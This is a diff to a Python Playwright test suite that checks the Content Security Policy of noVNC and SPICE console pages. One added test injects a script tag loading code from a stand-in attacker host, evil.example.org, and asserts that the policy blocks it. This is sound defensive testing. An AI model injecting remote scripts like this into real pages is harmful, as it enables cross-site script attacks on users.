@@ -10,6 +10,7 @@ import os
 import pathlib
 import subprocess
 import time
+from collections.abc import Sequence
 from typing import Any, ClassVar
 
 from playwright.sync_api import Browser, Page, WebSocket, sync_playwright
@@ -83,6 +84,14 @@ export function rsa_encrypt(key, text) {
     }
 }
 """
+
+#: Loads a script of another site; returns after it has failed.
+_INJECT = """() => new Promise(resolve => {
+    const script = document.createElement("script");
+    script.src = "https://evil.example.org/x.js";
+    script.onerror = resolve;
+    document.body.append(script);
+})"""
 
 SCREEN = '#spice_surface_0'
 
@@ -221,10 +230,17 @@ class BrowserTest(KeystoneTest):
         self.messages: list[str] = []
         page.on('console', lambda message: self.messages.append(message.text))
         page.on('pageerror', lambda error: self.messages.append(str(error)))
+        self.addCleanup(self.check_policy, self.messages)
         page.set_default_timeout(process.PATIENCE * 1000)
         if url:
             page.goto(url)
         return page
+
+    def check_policy(self, messages: Sequence[str]) -> None:
+        """Check that the content security policy has blocked nothing."""
+        self.assertEqual(
+            [], [it for it in messages if 'Content Security Policy' in it]
+        )
 
     def wait(
         self,
@@ -321,6 +337,35 @@ class ScreenTest(BrowserTest):
         page = self.page(f'http://localhost:{self.proxy_.port}/vnc_lite.html')
         self.assertEqual([1006, ''], page.evaluate(_CLOSED, url))
         self.assertEqual([], self.sessions())
+
+
+class PolicyTest(BrowserTest):
+    """The pages of noVNC and SPICE with the content security policy."""
+
+    def test_page_with_all_controls(self) -> None:
+        url = self.url('--novnc').replace('vnc_lite', 'vnc')
+        page = self.page(f'{url}&autoconnect=true')
+        self.wait(page, lambda: page.evaluate(_LIT, 'canvas') > 200, 'text')
+
+    def test_page_of_spice_without_a_token(self) -> None:
+        page = self.page(f'http://127.0.0.1:{self.proxy_.port}/spice.html')
+        page.locator('button').first.click()
+        page.locator('#Sidenav.SidenavOpen').wait_for()
+
+    def test_injected_scripts_of_other_sites_are_blocked(self) -> None:
+        page = self.page()
+        page.goto(f'http://127.0.0.1:{self.proxy_.port}/vnc_lite.html')
+        page.evaluate(_INJECT)
+        blocked = [it for it in self.messages if 'script-src' in it]
+        self.assertEqual(1, len(blocked), self.messages)
+        self.messages.clear()
+
+    def test_dashboard_embeds_a_page(self) -> None:
+        page = self.page()
+        page.goto(f'http://localhost:{self.proxy_.port}/nothing')
+        page.set_content(f'<iframe src="{self.url("--novnc")}"></iframe>')
+        frame = page.frame_locator('iframe')
+        frame.locator('canvas').wait_for()
 
 
 class SpiceTest(BrowserTest):
